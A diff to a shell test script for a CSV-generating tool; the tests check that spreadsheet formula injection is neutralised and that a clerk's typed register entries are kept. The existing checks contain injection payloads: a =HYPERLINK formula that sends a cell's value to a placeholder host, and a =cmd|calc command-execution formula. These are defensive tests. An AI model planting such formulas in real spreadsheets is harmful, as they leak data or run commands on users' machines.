@@ -212,3 +212,10 @@ expect "formula cells: build" 0 $CV build -q -i "$tmp/inj" -o "$tmp/inj/out" --n
 check "formula cells: =HYPERLINK neutralised" grep -q "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"Bấm\"\")\",'+1 Đơn vị,'@Chức danh,'+84 24 3826 0471," "$tmp/inj/out/directory.csv"
 check "formula cells: no bare formula" sh -c "! grep -q ',=\|,+\|,@\|,-' '$tmp/inj/out/directory.csv'"
 check "formula cells: register signer neutralised" grep -q ",'=cmd|calc," "$tmp/inj/out/register.csv"
+
+# What the clerk typed into register.csv is kept as typed, even "-đã ký".
+rm -rf "$tmp/regk"
+expect "register clerk: issue" 0 $CV build -q -o "$tmp/regk" --number 4 --date 2022-04-05
+sed -i 's/,15,,,archive/,15,06\/04\/2022,-đã ký,archive/' "$tmp/regk/register.csv"
+expect "register clerk: reissue" 0 $CV build -q -o "$tmp/regk" --number 4 --date 2022-04-05
+check "register clerk: -đã ký kept as typed" grep -q ',15,06/04/2022,-đã ký,archive/' "$tmp/regk/register.csv"
